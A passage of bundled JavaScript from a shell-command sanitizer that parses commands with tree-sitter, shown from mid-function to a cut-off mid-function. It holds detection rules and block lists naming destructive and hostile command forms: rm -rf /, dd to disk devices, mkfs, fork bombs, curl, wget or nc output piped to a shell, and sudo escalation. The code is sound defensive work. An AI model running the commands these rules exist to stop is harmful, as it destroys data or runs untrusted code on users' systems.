            break;
        }
        if (/^[-+]o$/.test(w) || /^[-+]O$/.test(w) || w === '--rcfile' || w === '--init-file') {
            i += 2;
            continue;
        }
        if (/^[-+]/.test(w) && w.length > 1) {
            if (!w.startsWith('--') && w.includes('c'))
                hasC = true;
            i++;
            continue;
        }
        break;
    }
    if (!hasC || i >= words.length)
        return { kind: 'plain' };
    return {
        kind: 'script',
        scripts: [
            {
                text: words[i].value,
                via: `${name} -c`,
                positional: words.slice(i + 1).map((w) => w.value)
            }
        ]
    };
}
/** Shell options up to the first operand; used to tell `sh` (reads stdin) from `sh file`. */
function wrappers_shellReadsStdin(words) {
    let i = 1;
    while (i < words.length) {
        const w = words[i].value;
        if (w === '-s' || w === '-' || w === '/dev/stdin')
            return true;
        if (w === '--')
            return i + 1 >= words.length || words[i + 1].value === '/dev/stdin';
        if (/^[-+]o$/.test(w) || /^[-+]O$/.test(w) || w === '--rcfile' || w === '--init-file') {
            i += 2;
            continue;
        }
        if (/^[-+]/.test(w)) {
            if (!w.startsWith('--') && /^[-+][a-zA-Z]*c/.test(w))
                return false;
            if (/^-[a-zA-Z]*s/.test(w))
                return true;
            i++;
            continue;
        }
        return false;
    }
    return true;
}

;// CONCATENATED MODULE: ./src/policy/rules.ts
// The sanitizer's rules, each looking at one simple command (one level of a wrapper chain)
// with its words already normalised. Structural rules (pipes, redirects, fork bombs) live in
// analyze.ts, because they need the syntax tree.


/** When one command breaks several rules, the verdict names the first in this order. */
const rules_RULE_ORDER = (/* unused pure expression or super */ null && ([
    'syntax',
    'rm-root',
    'find-delete',
    'disk-write',
    'disk-format',
    'mv-dev-null',
    'fork-bomb',
    'pipe-to-shell',
    'privilege-escalation',
    'setuid-bit',
    'system-permissions',
    'undecidable'
]));
/** One line per rule, for docs and `--help`. */
const RULE_SUMMARY = {
    syntax: 'the command does not parse as shell syntax',
    'rm-root': 'recursive deletion of /, /*, a system directory or a home directory',
    'find-delete': 'find -delete / -exec rm starting at /, a system directory or a home directory',
    'disk-write': 'writing raw bytes to a disk or memory device (dd of=, >, tee, cp, shred)',
    'disk-format': 'formatting, wiping or partitioning a disk (mkfs*, mkswap, wipefs, fdisk …)',
    'mv-dev-null': 'moving files to /dev/null',
    'fork-bomb': 'a function that calls itself in the background or in a pipeline',
    'pipe-to-shell': 'downloaded or decoded content run by a shell or interpreter',
    'privilege-escalation': 'sudo, su, doas, pkexec, runuser (allowed with the sudo variant)',
    'setuid-bit': 'chmod setting the setuid/setgid bit (allowed with the sudo variant)',
    'system-permissions': 'chmod/chown/chgrp on system paths (allowed with the sudo variant)',
    undecidable: 'the command to run is only known at run time (variable, substitution, glob)'
};
const PRIVILEGE = new Set(['sudo', 'sudoedit', 'su', 'doas', 'pkexec', 'runuser']);
const FORMATTERS = /^(mkfs(\..+)?|mke2fs|mkswap|mkdosfs|mkntfs|mkexfatfs|wipefs|blkdiscard)$/;
const PARTITIONERS = new Set(['fdisk', 'sfdisk', 'cfdisk', 'gdisk', 'sgdisk', 'parted']);
/** Shows a command the way a reader would type it (quoting only where needed). */
function rules_show(words, max = 80) {
    const s = words.map((w) => (/^[\w@%+=:,./~*?-]+$/.test(w.value) ? w.value : w.raw)).join(' ');
    return s.length > max ? s.slice(0, max - 1) + '…' : s;
}
/** Rules for one command: `words[0]` is its name; wrappers are separate levels. */
function rules_sanitizerFindings(words, opts) {
    if (words.length === 0)
        return [];
    const head = words[0];
    if (head.dynamic) {
        const how = head.substitution ? 'the output of a command substitution' : 'a variable';
        return [
            {
                rule: 'undecidable',
                reason: `the command name ${head.raw} is ${how}, so what runs is only known at run time and cannot be checked`
            }
        ];
    }
    if (head.glob) {
        return [
            {
                rule: 'undecidable',
                reason: `the command name ${head.raw} is a glob pattern, so what runs depends on the files present and cannot be checked`
            }
        ];
    }
    const name = commandName(head);
    const cmd = rules_show(words);
    const found = [];
    const add = (rule, reason) => found.push({ rule, reason });
    if (PRIVILEGE.has(name) && !opts.enableSudo) {
        add('privilege-escalation', `\`${cmd}\` changes user or gains root privileges; ${name} is only allowed when the sudo variant is enabled (enable_sudo: true)`);
    }
    switch (name) {
        case 'rm':
            checkRm(words, cmd, add, opts.cwd);
            break;
        case 'find':
            checkFind(words, cmd, add, opts.cwd);
            break;
        case 'dd':
            for (const w of words.slice(1)) {
                const m = /^of=(.*)$/s.exec(w.value);
                if (m && isDevice(m[1]))
                    add('disk-write', `\`${cmd}\` writes raw bytes to the device ${m[1]}, destroying its data`);
            }
            break;
        case 'tee':
        case 'shred':
        case 'cp':
        case 'install':
        case 'truncate': {
            // cp and install write only to their last operand; the others write to every operand.
            const ops = operands(words);
            const written = name === 'cp' || name === 'install' ? ops.slice(-1) : ops;
            const dev = written.find((w) => isDevice(w.value));
            if (dev)
                add('disk-write', `\`${cmd}\` writes to the device ${dev.value}, destroying its data`);
            break;
        }
        case 'mv': {
            const ops = operands(words);
            const target = optionValue(words, '-t', '--target-directory') ??
                (ops.length >= 2 ? ops.at(-1)?.value : undefined);
            if (target === '/dev/null')
                add('mv-dev-null', `\`${cmd}\` moves files onto /dev/null, which destroys them`);
            break;
        }
        case 'chmod':
        case 'chown':
        case 'chgrp':
            if (!opts.enableSudo)
                checkPermissions(name, words, cmd, add);
            break;
    }
    if (FORMATTERS.test(name)) {
        add('disk-format', `\`${cmd}\` formats or wipes a disk or partition, destroying its data`);
    }
    else if (PARTITIONERS.has(name)) {
        const listing = words.slice(1).some((w) => /^(-l|--list|-s|--show|print)$/.test(w.value));
        if (!listing && words.slice(1).some((w) => isDevice(w.value) || w.dynamic))
            add('disk-format', `\`${cmd}\` changes the partition table of a disk`);
    }
    return found;
}
/** Words after the options (GNU tools accept options anywhere before `--`). */
function operands(words) {
    const out = [];
    let afterDashes = false;
    for (const w of words.slice(1)) {
        if (!afterDashes && w.value === '--')
            afterDashes = true;
        else if (afterDashes || !w.value.startsWith('-') || w.value === '-')
            out.push(w);
    }
    return out;
}
function optionValue(words, short, long) {
    for (let i = 1; i < words.length; i++) {
        const v = words[i].value;
        if (v === '--')
            break;
        if (v === short || v === long)
            return words[i + 1]?.value;
        if (v.startsWith(long + '='))
            return v.slice(long.length + 1);
        if (v.startsWith(short) && !v.startsWith('--') && v.length > short.length)
            return v.slice(short.length);
    }
    return undefined;
}
/** GNU getopt accepts any unambiguous prefix of a long option (`--rec` is `--recursive`). */
function longOption(arg, options) {
    const name = arg.split('=')[0];
    const exact = options.find((o) => o === name);
    if (exact)
        return exact;
    const hits = options.filter((o) => o.startsWith(name));
    return hits.length === 1 ? hits[0] : undefined;
}
const RM_LONG = (/* unused pure expression or super */ null && ([
    '--force',
    '--interactive',
    '--one-file-system',
    '--no-preserve-root',
    '--preserve-root',
    '--recursive',
    '--dir',
    '--verbose',
    '--help',
    '--version'
]));
/** A relative path as seen from `cwd` (when known): `*` after `cd /` is `/*`. */
function fromCwd(path, cwd) {
    if (cwd === undefined || path.startsWith('/') || path.startsWith('~'))
        return path;
    return `${cwd.replace(/\/+$/, '')}/${path}`;
}
function checkRm(words, cmd, add, cwd) {
    let recursive = false;
    let noPreserve = false;
    const targets = [];
    let afterDashes = false;
    for (const w of words.slice(1)) {
        const v = w.value;
        if (afterDashes || !v.startsWith('-') || v === '-') {
            targets.push(w);
        }
        else if (v === '--') {
            afterDashes = true;
        }
        else if (v.startsWith('--')) {
            const opt = longOption(v, RM_LONG);
            if (opt === '--recursive')
                recursive = true;
            if (opt === '--no-preserve-root')
                noPreserve = true;
        }
        else if (/[rR]/.test(v.slice(1))) {
            recursive = true;
        }
    }
    if (noPreserve) {
        add('rm-root', `\`${cmd}\` uses --no-preserve-root, which exists only to allow deleting /`);
        return;
    }
    if (!recursive)
        return;
    for (const t of targets) {
        const what = criticalTarget(fromCwd(t.value, cwd));
        if (what) {
            const where = fromCwd(t.value, cwd) === t.value ? '' : ` (after cd ${cwd})`;
            add('rm-root', `\`${cmd}\`${where} recursively deletes ${what}`);
            return;
        }
        if (t.dynamic) {
            const ifEmpty = criticalTarget(t.ifEmpty);
            if (ifEmpty) {
                const vars = [...new Set(t.raw.match(/\$\{?[A-Za-z_][A-Za-z0-9_]*/g) ?? [t.raw])];
                const names = vars.map((v) => v.replace('{', '')).join(', ');
                add('rm-root', `\`${cmd}\` recursively deletes ${ifEmpty} if ${names} is empty or unset`);
                return;
            }
        }
    }
}
function checkFind(words, cmd, add, cwd) {
    let i = 1;
    while (i < words.length && /^-([HLP]|O\d*|D)$/.test(words[i].value)) {
        i += words[i].value === '-D' ? 2 : 1;
    }
    const starts = [];
    while (i < words.length && !/^[-(!]/.test(words[i].value))
        starts.push(words[i++]);
    const expr = words.slice(i).map((w) => w.value);
    const deletes = expr.includes('-delete') ||
        expr.some((v, k) => /^-(exec|execdir|ok|okdir)$/.test(v) &&
            /^(rm|rmdir|unlink|shred)$/.test(expr[k + 1]?.replace(/^.*\//, '') ?? ''));
    if (!deletes)
        return;
    for (const s of starts) {
        const what = criticalTarget(fromCwd(s.value, cwd)) ?? (s.dynamic ? criticalTarget(s.ifEmpty) : undefined);
        if (what) {
            add('find-delete', `\`${cmd}\` deletes files throughout ${what}`);
            return;
        }
    }
}
function checkPermissions(name, words, cmd, add) {
    const args = [];
    let reference = false;
    let afterDashes = false;
    for (const w of words.slice(1)) {
        const v = w.value;
        if (afterDashes)
            args.push(w);
        else if (v === '--')
            afterDashes = true;
        else if (v.startsWith('--'))
            reference ||= v.startsWith('--reference');
        // chmod modes may start with '-' (`chmod -x f`); only these letters are real options.
        else if (/^-[RcfvhHLP]+$/.test(v))
            continue;
        else if (v.startsWith('-') && name !== 'chmod')
            continue;
        else
            args.push(w);
    }
    const spec = reference ? undefined : args[0];
    const files = reference ? args : args.slice(1);
    if (name === 'chmod' && spec && setsIdBit(spec.value)) {
        add('setuid-bit', `\`${cmd}\` sets the setuid/setgid bit, which lets the file run with its owner's privileges`);
    }
    const sys = files.find((f) => isSystemPath(f.value));
    if (sys) {
        add('system-permissions', `\`${cmd}\` changes ${name === 'chmod' ? 'permissions' : 'ownership'} of the system path ${sys.value}`);
    }
}
/** True for 4755, 2755, u+s, g=s, +s, ug+rws … */
function setsIdBit(mode) {
    if (/^[0-7]+$/.test(mode))
        return (parseInt(mode, 8) & 0o6000) !== 0;
    return mode.split(',').some((clause) => {
        const m = /^[ugoa]*((?:[-+=][rwxXstugo]*)+)$/.exec(clause);
        if (!m)
            return false;
        const ops = m[1].match(/[-+=][rwxXstugo]*/g) ?? [];
        const who = clause.match(/^[ugoa]*/)?.[0] ?? '';
        return ops.some((op) => op[0] !== '-' && op.includes('s') && !/^o+$/.test(who));
    });
}

;// CONCATENATED MODULE: ./src/policy/writes.ts
/** Options that take a value (the next word), per command; `--opt=value` needs no entry. */
const VALUED = {
    cp: ['-S', '--suffix'],
    mv: ['-S', '--suffix'],
    ln: ['-S', '--suffix'],
    install: ['-m', '--mode', '-o', '--owner', '-g', '--group', '-S', '--suffix'],
    touch: ['-d', '--date', '-t', '-r', '--reference'],
    truncate: ['-s', '--size', '-r', '--reference'],
    mkdir: ['-m', '--mode'],
    shred: ['-n', '--iterations', '-s', '--size', '--random-source']
};
/** The last operand is the destination; `-t DIR` names it instead. */
const TO_LAST = new Set(['cp', 'mv', 'ln', 'install']);
/** Every operand is written. */
const EVERY = new Set(['touch', 'tee', 'rm', 'rmdir', 'mkdir', 'truncate', 'shred']);
function writes_writeTargets(level) {
    const name = level.name;
    const args = level.words.slice(1);
    if (name === 'dd')
        return args.filter((w) => !w.dynamic && w.value.startsWith('of=')).map((w) => w.value.slice(3));
    if (!TO_LAST.has(name) && !EVERY.has(name))
        return [];
    const operands = [];
    let target;
    let options = true;
    for (let i = 0; i < args.length; i++) {
        const w = args[i];
        if (options && w.value === '--') {
            options = false;
            continue;
        }
        if (options && w.value.startsWith('-') && w.value !== '-') {
            if (w.value === '-t' || w.value === '--target-directory')
                target = args[++i]?.value;
            else if (w.value.startsWith('--target-directory='))
                target = w.value.split('=')[1];
            else if ((VALUED[name] ?? []).includes(w.value))
                i++;
            continue;
        }
        operands.push({ value: w.value, dynamic: w.dynamic });
    }
    const known = (ws) => ws.filter((w) => !w.dynamic).map((w) => w.value);
    if (TO_LAST.has(name)) {
        if (target !== undefined)
            return [target];
        return operands.length >= 2 ? known(operands.slice(-1)) : [];
    }
    return known(operands).filter((v) => v !== '-');
}

;// CONCATENATED MODULE: ./src/policy/words.ts
const MAX_BRACE_WORDS = 256;
/** The words one argument node becomes (several when it has unquoted `{a,b}` braces). */
function words_wordsOf(node, vars) {
    const pieces = [];
    collect(node, pieces, vars);
    const dynamic = pieces.some((p) => p.dynamic);
    const substitution = pieces.some((p) => p.substitution);
    const raw = node.text;
    const variants = dynamic ? [pieces] : expandBraces(pieces);
    return variants.map((ps) => ({
        value: ps.map((p) => p.text).join(''),
        ifEmpty: ps.map((p) => p.ifEmpty).join(''),
        dynamic,
        substitution,
        glob: ps.some((p) => !p.literal && /[*?[]/.test(p.text)),
        raw
    }));
}
/** A single word for a node (brace alternatives joined by spaces, as a script text would be). */
function words_wordOf(node, vars) {
    const ws = words_wordsOf(node, vars);
    if (ws.length === 1)
        return ws[0];
    return { ...ws[0], value: ws.map((w) => w.value).join(' '), ifEmpty: ws[0].ifEmpty };
}
function lit(text, literal) {
    return { text, ifEmpty: text, literal };
}
function collect(node, out, vars) {
    switch (node.type) {
        case 'word':
        case 'command_name':
            if (node.type === 'command_name' && node.namedChildCount > 0) {
                for (const c of node.namedChildren)
                    if (c)
                        collect(c, out, vars);
                return;
            }
            unescapeUnquoted(node.text, out);
            return;
        case 'concatenation':
            for (const c of node.children)
                if (c)
                    collect(c, out, vars);
            return;
        case 'raw_string':
            out.push(lit(node.text.slice(1, -1), true));
            return;
        case 'ansi_c_string':
            out.push(lit(decodeAnsiC(node.text.slice(2, -1)), true));
            return;
        case 'string':
        case 'translated_string':
            collectString(node, out, vars);
            return;
        case 'simple_expansion':
        case 'expansion':
            out.push(expansionPiece(node, vars));
            return;
        case 'command_substitution':
        case 'process_substitution':
            out.push({ text: node.text, ifEmpty: '', literal: true, dynamic: true, substitution: true });
            return;
        case 'arithmetic_expansion':
            out.push({ text: node.text, ifEmpty: '0', literal: true, dynamic: true });
            return;
        default:
            // number, brace_expression, array, …: their text is what bash sees.
            if (node.type === '$' || node.type === '"')
                return;
            unescapeUnquoted(node.text, out);
    }
}
function collectString(node, out, vars) {
    for (const c of node.children) {
        if (!c || !c.isNamed)
            continue;
        if (c.type === 'string_content') {
            out.push(lit(unescapeDoubleQuoted(c.text), true));
            continue;
        }
        // tree-sitter folds whitespace before `$` into the expansion node; it is literal text.
        const lead = /^\s*/.exec(c.text)?.[0] ?? '';
        if (lead)
            out.push(lit(lead, true));
        const before = out.length;
        collect(c, out, vars);
        for (let i = before; i < out.length; i++) {
            out[i].literal = true;
            if (lead && i === before) {
                out[i].text = out[i].text.replace(/^\s+/, '');
                out[i].ifEmpty = out[i].ifEmpty.replace(/^\s+/, '');
            }
        }
    }
}
function expansionPiece(node, vars) {
    const text = node.text.replace(/^\s+/, '');
    const name = node.namedChildren.find((c) => c?.type === 'variable_name' || c?.type === 'special_variable_name')?.text;
    const op = node.childForFieldName('operator')?.text;
    if (name !== undefined && vars?.has(name) && (node.type === 'simple_expansion' || !op)) {
        const v = vars.get(name) ?? '';
        return { text: v, ifEmpty: v, literal: true };
    }
    let ifEmpty = '';
    if (name === 'HOME')
        ifEmpty = '~';
    else if (op === ':?' || op === '?')
        ifEmpty = 'x';
    else if (op === ':-' || op === '-' || op === ':=' || op === '=') {
        const body = /^\$\{[^:?=+-]*:?[-=](.*)\}$/s.exec(text)?.[1] ?? '';
        ifEmpty = body.replace(/^["']|["']$/g, '');
    }
    return { text, ifEmpty, literal: true, dynamic: true };
}
/** Unquoted text: a backslash quotes the next character; backslash-newline disappears. */
function unescapeUnquoted(text, out) {
    let buf = '';
    for (let i = 0; i < text.length; i++) {
        const ch = text[i];
        if (ch === '\\' && i + 1 < text.length) {
            if (buf)
                out.push(lit(buf, false));
            buf = '';
            const next = text[++i];
            if (next !== '\n')
                out.push(lit(next, true));
            continue;
        }
        buf += ch;
    }
    if (buf)
        out.push(lit(buf, false));
}
/** Inside "…" a backslash only escapes $ ` " \ and newline. */
function unescapeDoubleQuoted(text) {
    return text.replace(/\\([$`"\\\n])/g, (_m, c) => (c === '\n' ? '' : c));
}
const SIMPLE_ESCAPES = {
    a: '\x07',
    b: '\b',
    e: '\x1b',
    E: '\x1b',
    f: '\f',
    n: '\n',
    r: '\r',
    t: '\t',
    v: '\v',
    '\\': '\\',
    "'": "'",
    '"': '"',
    '?': '?'
};
/** Decodes the body of a bash $'…' string. */
function decodeAnsiC(body) {
    let out = '';
    for (let i = 0; i < body.length; i++) {
        const ch = body[i];
        if (ch !== '\\' || i + 1 >= body.length) {
            out += ch;
            continue;
        }
        const e = body[++i];
        if (e in SIMPLE_ESCAPES) {
            out += SIMPLE_ESCAPES[e];
            continue;
        }
        let m;
        const rest = body.slice(i);
        if ((m = /^[0-7]{1,3}/.exec(rest))) {
            out += String.fromCharCode(parseInt(m[0], 8) & 0xff);
            i += m[0].length - 1;
        }
        else if ((m = /^x([0-9a-fA-F]{1,2})/.exec(rest))) {
            out += String.fromCharCode(parseInt(m[1], 16));
            i += m[0].length - 1;
        }
        else if ((m = /^u([0-9a-fA-F]{1,4})/.exec(rest)) || (m = /^U([0-9a-fA-F]{1,8})/.exec(rest))) {
            const cp = parseInt(m[1], 16);
            out += cp <= 0x10ffff ? String.fromCodePoint(cp) : '';
            i += m[0].length - 1;
        }
        else if (e === 'c' && i + 1 < body.length) {
            out += String.fromCharCode(body.charCodeAt(++i) & 0x1f);
        }
        else {
            out += '\\' + e;
        }
    }
    return out;
}
/** Bash brace expansion over the unquoted parts: `{a,b}`, `{1..3}`, `{a..c}`. */
function expandBraces(pieces) {
    const chars = [];
    for (const p of pieces)
        for (const c of p.text)
            chars.push({ c, literal: p.literal });
    if (!chars.some((ch) => !ch.literal && ch.c === '{'))
        return [pieces];
    const results = expandChars(chars, 0);
    if (results.length === 0)
        return [pieces];
    return results.map((r) => toPieces(r));
}
function toPieces(chars) {
    const out = [];
    for (const ch of chars) {
        const last = out[out.length - 1];
        if (last && last.literal === ch.literal) {
            last.text += ch.c;
            last.ifEmpty += ch.c;
        }
        else
            out.push(lit(ch.c, ch.literal));
    }
    return out;
}
function expandChars(chars, depth) {
    if (depth > 8)
        return [chars];
    for (let open = 0; open < chars.length; open++) {
        if (chars[open].literal || chars[open].c !== '{')
            continue;
        // Find the matching close brace and the top-level commas.
        let level = 0;
        const commas = [];
        let close = -1;
        for (let j = open + 1; j < chars.length; j++) {
            const ch = chars[j];
            if (ch.literal)
                continue;
            if (ch.c === '{')
                level++;
            else if (ch.c === '}') {
                if (level === 0) {
                    close = j;
                    break;
                }
                level--;
            }
            else if (ch.c === ',' && level === 0)
                commas.push(j);
        }
        if (close < 0)
            return [chars];
        const prefix = chars.slice(0, open);
        const suffix = chars.slice(close + 1);
        let alternatives;
        if (commas.length > 0) {
            alternatives = [];
            let start = open + 1;
            for (const c of [...commas, close]) {
                alternatives.push(chars.slice(start, c));
                start = c + 1;
            }
        }
        else {
            const seq = sequence(chars
                .slice(open + 1, close)
                .map((ch) => ch.c)
                .join(''));
            if (!seq) {
                // Not an expansion: keep the braces literally and look further right.
                const rest = expandChars(chars.slice(open + 1), depth);
                return rest.map((r) => [...chars.slice(0, open + 1), ...r]);
            }
            alternatives = seq.map((s) => [...s].map((c) => ({ c, literal: true })));
        }
        const out = [];
        for (const alt of alternatives) {
            for (const r of expandChars([...prefix, ...alt, ...suffix], depth + 1)) {
                out.push(r);
                if (out.length >= MAX_BRACE_WORDS)
                    return out;
            }
        }
        return out;
    }
    return [chars];
}
function sequence(body) {
    const num = /^(-?\d+)\.\.(-?\d+)(?:\.\.(-?\d+))?$/.exec(body);
    if (num) {
        const [a, b] = [Number(num[1]), Number(num[2])];
        const step = Math.abs(Number(num[3] ?? 1)) || 1;
        const out = [];
        for (let i = a; a <= b ? i <= b : i >= b; i += a <= b ? step : -step) {
            out.push(String(i));
            if (out.length >= MAX_BRACE_WORDS)
                break;
        }
        return out;
    }
    const chr = /^([a-zA-Z])\.\.([a-zA-Z])$/.exec(body);
    if (chr) {
        const [a, b] = [chr[1].charCodeAt(0), chr[2].charCodeAt(0)];
        const out = [];
        for (let i = a; a <= b ? i <= b : i >= b; i += a <= b ? 1 : -1)
            out.push(String.fromCharCode(i));
        return out;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./src/policy/analyze.ts





/** Nested code (bash -c inside eval inside …) deeper than this is not followed. */
const MAX_DEPTH = 6;
/** At most this many nested parses per command. */
const MAX_NESTED = 64;
const DOWNLOADERS = new Set([
    'curl',
    'wget',
    'fetch',
    'http',
    'https',
    'xh',
    'aria2c',
    'nc',
    'ncat',
    'netcat',
    'socat',
    'ftp',
    'tftp',
    'lwp-request',
    'GET'
]);
const INTERPRETER = /^(python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|bun|deno|php[0-9.]*|lua[0-9.]*|Rscript|tclsh|osascript)$/;
/** True when this command prints downloaded or decoded bytes. */
function isFetcher(level) {
    if (DOWNLOADERS.has(level.name))
        return true;
    const args = level.words.slice(1).map((w) => w.value);
    switch (level.name) {
        case 'base64':
        case 'base32':
        case 'basenc':
            return args.some((a) => a === '--decode' || /^-[a-zA-Z]*[dD]/.test(a));
        case 'xxd':
            return args.some((a) => a === '-revert' || /^-[a-zA-Z]*r/.test(a));
        case 'uudecode':
            return true;
        case 'openssl':
            return args.includes('-d') || args.includes('-base64') || args[0] === 'base64';
        case 'gpg':
            return args.some((a) => a === '-d' || a === '--decrypt');
    }
    return false;
}
/** True when the command reads the code it runs from standard input. */
function runsStdinAsCode(level) {
    const { name, words } = level;
    if (isShell(name))
        return shellReadsStdin(words);
    if (name === 'source' || name === '.')
        return ['/dev/stdin', '-', '/proc/self/fd/0'].includes(words[1]?.value ?? '');
    if (!INTERPRETER.test(name))
        return false;
    for (let i = 1; i < words.length; i++) {
        const w = words[i].value;
        if (w === '-' || w === '/dev/stdin')
            return true;
        if (/^-(c|e|E|m|r|p)$/.test(w) || /^--(eval|print|command)/.test(w))
            return false;
        if (/^-[WXIMrx]$/.test(w) || w === '--require') {
            i++;
            continue;
        }
        if (!w.startsWith('-'))
            return false;
    }
    return true;
}
/** True when the command runs code given in its arguments or redirections. */
function runsCode(level) {
    return (isShell(level.name) ||
        INTERPRETER.test(level.name) ||
        ['eval', 'source', '.', 'su', 'runuser', 'sg', 'watch', 'flock', 'script'].includes(level.name));
}
class analyze_Analyzer {
    parser;
    opts;
    occurrences = [];
    findings = [];
    functions = new Set();
    byNode = new Map();
    trees = [];
    nested = 0;
    /** The directory the last `cd` moved to, when it is known statically. */
    cwd;
    /** The same from the step's working directory ('' at first); null once a `cd` is not known. */
    dirFromStart = '';
    writes = [];
    constructor(parser, opts) {
        this.parser = parser;
        this.opts = opts;
    }
    /** Analyses a parsed command. The caller reports syntax errors of the top-level tree. */
    analyze(root) {
        try {
            this.walk(root, { depth: 0 });
            return {
                occurrences: this.occurrences,
                findings: this.findings,
                functions: this.functions,
                writes: this.writes
            };
        }
        finally {
            for (const t of this.trees)
                t.delete();
        }
    }
    /**
     * Visits the interesting nodes innermost-first (a command inside `$(…)` before the command
     * using it, the commands of a pipeline or function body before the pipeline or function).
     * One descendantsOfType call is much cheaper than walking every node through the wasm API.
     */
    walk(root, ctx) {
        const keyed = root
            .descendantsOfType(this.visited)
            .filter((n) => n !== null)
            .map((node) => ({ node, end: node.endIndex, start: node.startIndex }));
        keyed.sort((a, b) => a.end - b.end || b.start - a.start);
        for (const { node } of keyed)
            this.visitors.get(node.type)?.(node, ctx);
    }
    /** The node types walk visits, each with its handler. */
    visitors = new Map([
        ['command', (node, ctx) => this.onCommand(node, ctx)],
        ['pipeline', (node, ctx) => this.onPipeline(node, ctx)],
        ['function_definition', (node) => this.onFunction(node)],
        ['file_redirect', (node) => this.onFileRedirect(node)],
        ['redirected_statement', (node, ctx) => this.onRedirectedStatement(node, ctx)],
        ['heredoc_redirect', (node, ctx) => this.onHeredocPipeline(node, ctx)]
    ]);
    visited = [...this.visitors.keys()];
    onCommand(node, ctx) {
        const nameNode = node.childForFieldName('name');
        if (!nameNode)
            return;
        const words = wordsOf(nameNode, ctx.vars);
        for (const arg of node.childrenForFieldName('argument'))
            if (arg)
                words.push(...wordsOf(arg, ctx.vars));
        const assignments = node.firstNamedChild?.type === 'variable_assignment'
            ? node.namedChildren
                .filter((c) => c?.type === 'variable_assignment')
                .map((c) => c?.text ?? '')
            : [];
        const chains = [];
        this.chain([], words, chains);
        const occs = [];
        for (const { levels, last } of chains) {
            const occ = {
                levels,
                assignments,
                delegates: last.kind === 'script',
                via: ctx.via
            };
            occs.push(occ);
            this.occurrences.push(occ);
            levels.forEach((level, i) => {
                for (const f of sanitizerFindings(level.words, { ...this.opts, cwd: this.cwd })) {
                    const through = levels.slice(0, i).map((l) => l.name);
                    if (through.length)
                        f.reason += ` (run through ${through.join(' → ')})`;
                    if (ctx.via)
                        f.reason += ` (inside the code run by ${ctx.via})`;
                    this.findings.push(f);
                }
            });
            if (last.kind === 'script') {
                for (const s of last.scripts) {
                    const vars = s.positional
                        ? new Map(s.positional.map((v, i) => [String(i), v]))
                        : undefined;
                    this.nestedCode(s.text, s.via, ctx, vars);
                }
            }
            const eff = levels[levels.length - 1];
            if (levels.some(runsCode) && this.containsFetcher(node, true)) {
                this.findings.push({
                    rule: 'pipe-to-shell',
                    reason: `\`${show(words)}\` runs downloaded or decoded content (${this.fetcherNames(node, true)}) with ${eff.name}, unseen`
                });
            }
        }
        this.byNode.set(node.id, occs);
        this.stdinCode(node, node.childrenForFieldName('redirect'), ctx);
        for (const occ of occs) {
            const eff = occ.levels[occ.levels.length - 1];
            for (const path of writeTargets(eff))
                this.writes.push({ path, dir: this.dirFromStart, how: `\`${eff.name}\`` });
            this.trackDirectory(eff);
        }
    }
    /** Follows `cd DIR` so that `cd / && rm -rf *` is seen as `rm -rf /*`. */
    trackDirectory(level) {
        if (level.name !== 'cd' && level.name !== 'pushd')
            return;
        const args = level.words.slice(1).filter((w) => !/^-[LPe@]+$/.test(w.value));
        if (args.length === 0) {
            this.cwd = '~';
            this.dirFromStart = null;
            return;
        }
        const dir = args[0];
        if (dir.dynamic)
            this.cwd = undefined;
        else if (dir.value.startsWith('/') || dir.value.startsWith('~'))
            this.cwd = dir.value;
        else if (this.cwd !== undefined)
            this.cwd = `${this.cwd}/${dir.value}`;
        if (dir.dynamic || dir.value.startsWith('~') || dir.value === '-')
            this.dirFromStart = null;
        else if (dir.value.startsWith('/'))
            this.dirFromStart = dir.value;
        else if (this.dirFromStart !== null)
            this.dirFromStart = this.dirFromStart ? `${this.dirFromStart}/${dir.value}` : dir.value;
    }
    /** Expands wrappers: each chain ends at a command that is not a wrapper. */
    chain(prefix, words, out) {
        const level = { words, name: commandName(words[0]) };
        const levels = [...prefix, level];
        const un = words[0].dynamic || levels.length > 12 ? { kind: 'plain' } : unwrap(words);
        if (un.kind === 'wrapper') {
            for (const inner of un.inner)
                this.chain(levels, inner, out);
            return;
        }
        out.push({ levels, last: un });
    }
    nestedCode(text, via, ctx, vars) {
        if (ctx.depth + 1 > MAX_DEPTH || ++this.nested > MAX_NESTED) {
            this.findings.push({
                rule: 'undecidable',
                reason: `the command nests code more than ${MAX_DEPTH} levels deep (or too often); it is not followed`
            });
            return;
        }
        const tree = this.parser.parse(text);
        if (!tree)
            return;
        this.trees.push(tree);
        const err = analyze_syntaxError(tree.rootNode);
        if (err) {
            this.findings.push({
                rule: 'syntax',
                reason: `the code run by ${via} does not parse: ${err}`
            });
            return;
        }
        this.walk(tree.rootNode, { depth: ctx.depth + 1, vars, via });
    }
    onPipeline(node, ctx) {
        const stages = node.namedChildren.filter((c) => !!c && c.type !== 'comment');
        for (let j = 1; j < stages.length; j++) {
            const consumer = directCommand(stages[j]);
            const occs = consumer ? (this.byNode.get(consumer.id) ?? []) : [];
            for (const occ of occs) {
                const eff = occ.levels[occ.levels.length - 1];
                if (!runsStdinAsCode(eff))
                    continue;
                for (let i = 0; i < j; i++) {
                    if (!this.containsFetcher(stages[i], false))
                        continue;
                    this.findings.push({
                        rule: 'pipe-to-shell',
                        reason: `\`${show(this.stageWords(stages[i]), 50)} |${i < j - 1 ? ' … |' : ''} ${show(occ.levels[0].words, 30)}\` pipes downloaded or decoded content (${this.fetcherNames(stages[i], false)}) into ${eff.name}, which runs it unseen`
                    });
                }
                if (isShell(eff.name)) {
                    const producer = directCommand(stages[j - 1]);
                    const text = producer ? this.printedText(producer) : undefined;
                    if (text !== undefined)
                        this.nestedCode(text, `… | ${eff.name}`, ctx);
                }
            }
        }
    }
    /** `sh <<EOF … EOF` and `bash <<< "code"`: the redirected text is code. */
    onRedirectedStatement(node, ctx) {
        const body = node.childForFieldName('body');
        if (body?.type === 'command')
            this.stdinCode(body, node.childrenForFieldName('redirect'), ctx);
    }
    stdinCode(command, redirects, ctx) {
        const shell = (this.byNode.get(command.id) ?? [])
            .map((o) => o.levels[o.levels.length - 1])
            .find((l) => isShell(l.name) && runsStdinAsCode(l));
        if (!shell)
            return;
        for (const r of redirects) {
            const text = r ? redirectText(r) : undefined;
            if (text !== undefined)
                this.nestedCode(text, `${shell.name} <<`, ctx);
        }
    }
    /** `cat <<EOF | sh`: tree-sitter puts the `| sh` pipeline inside the heredoc redirect. */
    onHeredocPipeline(node, ctx) {
        const pipeline = node.namedChildren.find((c) => c?.type === 'pipeline' || c?.type === 'command');
        if (!pipeline)
